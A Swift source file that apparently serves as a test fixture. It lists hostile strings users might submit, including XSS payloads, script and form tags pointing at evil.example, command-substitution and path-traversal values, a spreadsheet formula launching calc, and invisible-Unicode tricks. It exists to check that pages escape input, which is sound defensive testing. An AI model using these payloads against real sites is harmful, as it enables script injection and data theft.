/// What customers and users may write to break pages. None may do more than be read.
enum HostileTexts {
  static let all: [String] = tags + breakers + handlers + templates + styles + unseen + odd

  private static let tags = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>",
    "<script src=//evil.example></script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
    "<script>alert(1)//", "<script type=module>import('//evil.example')</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><button>x",
    "</form><form action=//evil.example><input name=csrf>", "<input name=csrf value=x>",
    "<textarea>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>", "<!--", "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1'?>",
    "<%= 7*7 %>", "<a href=javascript:alert(1)>x</a>", "<a href='//evil.example' target=_blank>x",
    "<button formaction=//evil.example>x</button>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script>", "<plaintext>", "<noscript><p title='</noscript><x>'>",
    "<table><tr><td></table><script>alert(1)</script>", "<x:script xmlns:x='y'>alert(1)</x:script>",
    "<dialog open>x</dialog>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<portal src=//evil.example>",
    "<h1>Your account is locked</h1>", "<main id=main>", "<div id=live></div>", "<img src=x",
    "<img src=\"x\" alt=\"", "<", ">", "<>", "</>", "< script>alert(1)</ script>", "&lt;script&gt;",
    "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&", "&amp", "&#0;",
    "&nbsp",
  ]

  private static let breakers = [
    "\"", "'", "`", "\">", "'>", "\" onfocus=alert(1) autofocus=\"",
    "' onfocus=alert(1) autofocus='",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"/><svg/onload=alert(1)>",
    "x\" style=\"position:fixed;inset:0", "x\" formaction=\"javascript:alert(1)", "x\" src=\"x",
    "\\\"><script>alert(1)</script>", "\u{22}\u{301} onmouseover=alert(1) x=\u{22}",
    "\"\u{200D}onmouseover=alert(1)", "＂＞＜script＞alert(1)", "‹script›", "ʺ onx=1", "\u{0}\"><x>",
    "\n\" onclick=alert(1)\n", "\r\n\r\n<html>", "\t\"\tonclick\t=\talert(1)", "=\"x\"", "a=b",
    "/>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    "\\\\evil.example\\x", "../../../etc/passwd", "%3Cscript%3Ealert(1)%3C/script%3E",
    "?queue=mine&x=",
    "#main", "); alert(1); (", "';alert(1);//", "\";alert(1);//", "\\';alert(1);//", "${alert(1)}",
    "\u{2028}alert(1)", "\u{2029}alert(1)", "]]>", "*/alert(1)/*", "0;url=javascript:alert(1)",
  ]

  /// Every element with every event.
  private static let handlers = ["img src=x", "svg", "body", "input autofocus", "p tabindex=1"]
    .flatMap { element in
      ["onerror", "onload", "onfocus", "onpointerenter", "onanimationstart"].map {
        "<\(element) \($0)=alert(1)>"
      }
    }

  private static let templates = [
    "{{name}}", "{{{name}}}", "{{&name}}", "{{#rows}}x{{/rows}}", "{{/rows}}",
    "{{^rows}}x{{/rows}}",
    "{{>head}}", "{{<head}}{{/head}}", "{{$main}}x{{/main}}", "{{!x}}", "{{=<% %>=}}", "{{csrf}}",
    "{{%CONTENT_TYPE:TEXT}}", "{{*name}}", "{{", "}}", "{{{", "{{.}}", "{% raw %}", "#{7*7}",
    "%s%n%x", "\\(csrf)", "$(id)", "`id`",
  ]

  private static let styles = [
    "<style>*{display:none}</style>", "<style>@import '//evil.example'</style>",
    "style=background:url(//evil.example)", "</style><style>body{opacity:0}",
    "expression(alert(1))", "url(javascript:alert(1))", "};*{display:none}", "/*", "*/",
    "<p class=sr>hidden</p>", "<div style=position:fixed;inset:0>",
  ]

  private static let unseen = [
    "\u{202E}gnp.exe", "\u{202D}abc\u{202C}", "\u{2066}abc\u{2069}", "\u{2067}abc",
    "\u{2068}x\u{2069}",
    "pay\u{200B}pal", "a\u{200C}b", "a\u{200D}b", "\u{200E}x\u{200F}", "\u{2060}x", "\u{FEFF}x",
    "soft\u{AD}hyphen", "tag\u{E0041}\u{E0042}", "\u{180E}x", "\u{034F}x", "\u{115F}x", "\u{3164}",
    "x\u{FE00}\u{FE01}\u{FE02}", "\u{E0100}\u{E0101}", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "\u{61C}x",
    "\u{0}", "a\u{0}b", "\u{8}\u{8}\u{8}", "\u{1B}[31mred", "\u{7F}", "\u{85}", "\u{9B}31m",
    "\u{FFFE}",
  ]

  private static let odd = [
    " ", "\n\n\n", "e" + String(repeating: "\u{301}", count: 3000),
    String(repeating: "a", count: 5000), String(repeating: "<b>", count: 500),
    String(repeating: "\u{202E}", count: 500), "وين طلبي؟ <b>", "שלום \"onclick=x\"", "𝕊𝕔𝕣𝕚𝕡𝕥",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽", "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "می‌خواهم", "क्‍ष",
    "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-1", "null", "undefined", "true", "NaN", "__proto__",
    "constructor", "{\"a\":1}", "\u{10FFFF}", "ﷺ", "İ", "ß",
  ]
}
